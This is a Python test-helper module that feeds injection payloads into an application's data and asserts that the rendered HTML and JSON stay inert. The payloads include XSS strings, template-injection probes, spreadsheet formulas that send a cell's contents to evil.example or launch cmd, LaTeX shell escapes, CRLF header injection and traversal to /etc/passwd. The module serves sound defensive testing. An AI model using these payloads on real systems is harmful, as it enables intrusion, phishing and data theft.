"""Strings that attack, and what no output may be once it is parsed as what it claims to be."""

# ruff: noqa: E501 (strings as they come, not to be wrapped)

from __future__ import annotations

import dataclasses
import re
from typing import Any, TypeVar

import msgspec
from lxml import html as lxml_html

STRINGS = {
    "script": "<script>alert(1)</script>",
    "script-src": "<script src=//evil.example/x.js></script>",
    "image": '"><img src=x onerror=alert(1)>',
    "image-quote": "'><img src=x onerror='alert(1)'>",
    "svg": "<svg/onload=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x="',
    "attribute-quote": "' onfocus='alert(1)' autofocus='",
    "attribute-tick": "` onmouseover=alert(1) `",
    "style": "</style><style>*{display:none}</style>",
    "style-attribute": '" style="position:fixed;inset:0" x="',
    "title-end": "</title><script>alert(1)</script>",
    "textarea-end": "</textarea><script>alert(1)</script>",
    "table-end": "</td></tr></table><iframe src=https://evil.example></iframe>",
    "form": '<form action="https://evil.example"><input name=password>',
    "meta": '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "base": "<base href=https://evil.example/>",
    "link": '<link rel=stylesheet href="https://evil.example/x.css">',
    "comment": "--> <!-- <![endif]--> -->",
    "cdata": "]]> <![CDATA[<script>alert(1)</script>]]>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "entities-twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "half-open": "<img src=x onerror=alert(1) //",
    "odd-case": "<ScRiPt >alert(1)</sCrIpT >",
    "nul": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "template": "{{1337*1337}} {% include '/etc/passwd' %} ${1337*1337} #{1337*1337} <%= 1337*1337 %>",
    "template-dunder": "{{ self.__init__.__globals__ }} {{ config }} {0.__class__} %(name)s %s",
    "markdown": "[click](javascript:alert(1)) ![x](https://evil.example/t.gif) **b**",
    "slack": "<!channel> <!here> <@U024BE7LH> <!subteam^S1|all> <https://evil.example|click> @channel",
    "slack-format": "*bold* _it_ ~no~ `code` :tada: &lt;!channel&gt;",
    "breaks": "one\r\nBcc: eve@evil.example\r\n\r\n<b>two</b>\u2028three\x85four\x0bfive",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"click")',
    "formula-plus": "+1337*1337",
    "formula-at": "@SUM(1337*1337)",
    "formula-tab": "\t=cmd|'/C calc'!A0",
    "formula-minus": "-1337*1337|cmd",
    "bibtex": "x}, author = {Eve}, note = {y\n}\n@misc{evil, title = {z}",
    "ris": "x\r\nER  - \r\nTY  - JOUR\r\nAU  - Eve",
    "latex": r"\input{/etc/passwd} \write18{id} \immediate\openout1=x \href{javascript:alert(1)}{x} \def\x{\x\x}\x",
    "latex-verb": r"\begin{verbatim}<script>alert(1)</script>\end{verbatim} $<img src=x onerror=alert(1)>$ \verb|<svg onload=x>|",
    "bidi": "\u202egnp.exe\u202c \u2066left\u2069 \u200b\ufeff\u00ad",
    "ansi": "\x1b[2J\x1b]0;owned\x07\x9b31m plain",
    "surrogate": "\ud800 lone",
    "long": "<b>" * 3_000,
    "encoded-word": "=?utf-8?q?=0D=0ABcc=3A_eve=40evil.example?=",
    "path": "../../../../etc/passwd%00.html",
}
URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " \x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:x",
    "data:text/html;base64,PHNjcmlwdD4=",
    'https://evil.example/"><script>alert(1)</script>',
    "//evil.example/x",
    "https://user:pw@evil.example/",
    "file:///etc/passwd",
    "https://evil.example/\r\nSet-Cookie: a=b",
    "blob:https://x/y",
)

EVALUATED = "1787569"
"""1337 times 1337: nobody writes it, so whoever says it has calculated."""

T = TypeVar("T")
_OURS = re.compile(
    r"(web|all|feed|preferences|pause|saved|unsubscribe|one_click)_url|timezone|state|cadence|kind|key|scheme"
)
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\u202a-\u202e\u2066-\u2069]")

_HIDDEN = re.compile("[\x00-\x08\x0e-\x1f\x7f-\x84\x86-\x9f\ud800-\udfff\u202a-\u202e\u2066-\u2069]")
"""What hides or turns text on a page; other kinds of blank are only blanks."""


def poisoned(value: T, text: str, url: str = URLS[0]) -> T:
    """A copy of frozen data with `text` for every text and `url` for every address, but what only we ever set."""
    held: dict[str, Any] | None = None
    if isinstance(value, msgspec.Struct):
        held = msgspec.structs.asdict(value)
    elif dataclasses.is_dataclass(value) and not isinstance(value, type):
        held = {field.name: getattr(value, field.name) for field in dataclasses.fields(value)}
    if held is not None:
        changes = {
            name: url if name.endswith(("url", "urls")) and isinstance(present, str) else poisoned(present, text, url)
            for name, present in held.items()
            if not _OURS.fullmatch(name) and present is not None and name != "feedback"
        }
        return type(value)(**{**held, **changes})
    if isinstance(value, tuple):
        return tuple(poisoned(item, text, url) for item in value)  # type: ignore[return-value]
    return text if isinstance(value, str) else value  # type: ignore[return-value]


def elements(page: str) -> set[tuple[str, str]]:
    """Every (element, attribute) of a page; an element without attributes counts once with none."""
    found = set()
    for element in lxml_html.document_fromstring(page).iter():
        if isinstance(element.tag, str):
            found.add((element.tag, ""))
            found |= {(element.tag, str(name)) for name in element.attrib}
    return found


def check_page(page: str, allowed: set[tuple[str, str]], *, mail: bool = False) -> None:
    """A page is inert: parsed, it has no element or attribute that it has not with harmless texts."""
    assert EVALUATED not in page
    assert not _HIDDEN.search(page), ascii(_HIDDEN.findall(page)[:5])
    assert elements(page) <= allowed, elements(page) - allowed
    for element in lxml_html.document_fromstring(page).iter("*"):
        if element.tag == "script":
            assert not (element.text or "").strip()
            assert str(element.get("src")).startswith("/static/")
        assert element.tag not in {"iframe", "object", "embed", "base", "frame"}
        for name, value in element.attrib.items():
            assert not str(name).startswith("on")
            assert name != "style" or mail
            if name in {"href", "src", "action", "formaction", "data", "poster", "xlink:href"}:
                target = str(value)
                assert re.match(r"(https?://[^@\s\"'<>]+|mailto:[^\s\"'<>]+|[/#?](?!/)[^\"<>]*|)\Z", target), target


def check_json(value: Any, *, raw: bool = False) -> None:
    """JSON for programs: whatever is an address leads to http or https; no control character, unless kept `raw`."""
    if isinstance(value, dict):
        for name, item in value.items():
            if str(name).endswith("url") and item is not None:
                assert re.match(r"https?://[^\s@]+\Z|\Z", str(item)), (name, item)
            check_json(item, raw=raw)
    elif isinstance(value, list):
        for item in value:
            check_json(item, raw=raw)
    elif isinstance(value, str):
        assert raw or not _CONTROL.search(value), ascii(value[:100])
        assert EVALUATED not in value
